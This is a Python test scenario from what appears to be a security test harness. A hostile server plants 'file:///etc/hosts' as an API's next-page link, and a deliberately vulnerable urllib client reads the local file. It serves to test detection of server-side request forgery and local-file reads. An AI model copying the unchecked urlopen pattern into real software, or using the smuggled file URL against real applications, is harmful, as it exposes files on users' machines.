"""D14 on urllib: an API's answer names a file of the app's machine as its next page, and urlopen opens it."""

import json

from backwatch.attack.authority import Authority
from backwatch.attack.protocols.http import Request, Web, answered
from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.scenarios import Scenario

FILE = "file:///etc/hosts"
"""Which is on every machine, and no secret."""
MOST_PAGES = 3


class _Paged(Web):
    def answer(self, request: Request) -> bytes:
        follows = FILE if self.hostile else f"https://localhost:{self.port}/goods?page=2"
        return answered(
            json.dumps({"goods": "apples", "next": None if b"page=2" in request.path else follows}).encode()
        )


class HttpFileNamed(Scenario):
    """``urlopen`` takes ``file:`` where it takes ``https:``; a redirect to such a URL it refuses, a page's link not."""

    code = "D14"
    attack = "names a file of the app's machine as the next page of a list, and the app publishes it as goods"
    reference = "CVE-2023-34457; https://cwe.mitre.org/data/definitions/918.html; ATT&CK T1005"
    driver = "urllib"
    notices = "a page without goods"
    rule = "local-file-opened"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """Two pages, yet."""
        return _Paged(authority)

    def work(self) -> None:
        """Reads all pages."""
        self.meet()

    def meet(self) -> object:
        """The same."""
        pages: list[str] = []
        follows: str | None = f"https://localhost:{self.config.port}/goods?page=1"
        while follows and len(pages) < MOST_PAGES:
            text = self.fetch(follows)
            try:
                page = json.loads(text)
            except ValueError:
                page = {"goods": text}
            pages.append(page["goods"])
            follows = page.get("next")
        return pages

    def fetch(self, url: str) -> str:
        """One page, as urllib's documentation shows it."""
        import ssl
        from urllib.request import urlopen

        context = ssl.create_default_context(cafile=self.config.ca_file)
        with urlopen(url, context=context, timeout=5) as answer:  # noqa: S310  that is what is shown
            return answer.read().decode()

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The file is among the goods."""
        del service
        return isinstance(got, list) and any("localhost" in f"{page}" for page in got)
